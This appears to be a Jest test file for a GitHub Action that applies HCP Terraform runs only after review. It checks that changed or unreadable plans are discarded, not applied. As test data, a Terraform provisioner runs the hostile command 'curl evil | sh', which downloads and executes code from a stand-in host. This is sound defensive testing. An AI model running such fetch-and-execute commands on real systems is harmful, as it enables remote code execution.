import { expect, test } from '@jest/globals'
import { serveGithub } from '../../../packages/github-server/src/index.ts'
import { serve } from '../../../packages/hcp-terraform-server/src/index.ts'
import { onGithub } from '../on-github.ts'
import { annotated, runStep } from '../on-a-runner.ts'
import { change, planWith } from '../plans.ts'

const inputs = { operation: 'apply', 'apply-only-if': 'reviewed' }
const BUILT_IN = 'terraform.io/builtin/terraform'

/** A plan of a resource whose provisioner runs a command, which only the whole plan shows. */
function planRunning(command: string, more: object = {}) {
  const named = { mode: 'managed', type: 'terraform_data', name: 'x' }
  const created = { ...change('terraform_data.x', 'create', { input: 'a' }), ...named, provider_name: BUILT_IN }
  const block = {
    address: 'terraform_data.x',
    ...named,
    provider_config_key: 'terraform',
    expressions: { input: { constant_value: 'a' } },
    provisioners: [{ type: 'local-exec', expressions: { command: { constant_value: command } } }],
    schema_version: 0
  }
  return planWith([created], {
    configuration: {
      provider_config: { terraform: { name: 'terraform', full_name: BUILT_IN } },
      root_module: { resources: [block], ...more }
    }
  })
}

function nested(levels: number): unknown {
  let value: unknown = 'x'
  for (let level = 0; level < levels; level++) value = [value]
  return value
}

test.each<[string, object, { readonly status: number } | undefined, RegExp]>([
  ['is nested too deep to be read', { variables: { d: { default: nested(1_000) } } }, undefined, /levels deep/],
  ['fails at the service', {}, { status: 502 }, /502/],
  ['does not exist yet', {}, { status: 204 }, /204/]
])(
  'a whole plan that %s leads to no comparison of less',
  async (_name, more, fault, why) => {
    await using hcp = await serve({ script: planRunning('echo good', more) })
    await using github = await serveGithub()
    const pull = github.addPullRequest({ number: 7 })
    await runStep(hcp, onGithub(github.trigger('pull_request', pull)))
    github.merge(pull)
    hcp.script(planRunning('curl evil | sh', more))
    if (fault !== undefined)
      hcp.faults.set({ on: 'GET /plans/:id/json-output', do: { kind: 'answer', ...fault }, times: 1_000 })
    const step = await runStep(hcp, onGithub(github.trigger('push', pull), { inputs }))
    expect([step.conclusion, step.outputs['run-status']]).toEqual(['failure', 'discarded'])
    expect(annotated(step, 'error')[0]).toMatch(/The action can't compare the values of the plan/)
    expect(annotated(step, 'error')[0]).toMatch(why)
    expect(annotated(step, 'error')[0]).not.toContain('role Admin')
  },
  240_000
)

test('where the token may not read it, the redacted one is compared', async () => {
  await using hcp = await serve({ script: planRunning('echo good') })
  await using github = await serveGithub()
  const pull = github.addPullRequest({ number: 7 })
  await runStep(hcp, onGithub(github.trigger('pull_request', pull)))
  github.merge(pull)
  hcp.script(planRunning('echo good'))
  hcp.faults.set({ on: 'GET /plans/:id/json-output', do: { kind: 'answer', status: 404 }, times: 1_000 })
  const step = await runStep(hcp, onGithub(github.trigger('push', pull), { inputs }))
  expect(step.outputs['run-status']).toBe('applied')
  expect(annotated(step, 'notice')).toEqual([expect.stringContaining('role Admin')])
})

test.each([
  ['of the reviewed run', 1],
  ['of the run to apply', 2]
])('where the token may read one of the whole plans, the one %s must be read as well', async (_name, nth) => {
  await using hcp = await serve({ script: planRunning('echo good') })
  await using github = await serveGithub()
  const pull = github.addPullRequest({ number: 7 })
  await runStep(hcp, onGithub(github.trigger('pull_request', pull)))
  github.merge(pull)
  hcp.script(planRunning('curl evil | sh'))
  hcp.faults.set({ on: 'GET /plans/:id/json-output', do: { kind: 'answer', status: 404 }, nth })
  const step = await runStep(hcp, onGithub(github.trigger('push', pull), { inputs }))
  expect(step.outputs['run-status']).toBe('discarded')
  expect(annotated(step, 'error')[0]).toContain('404')
})
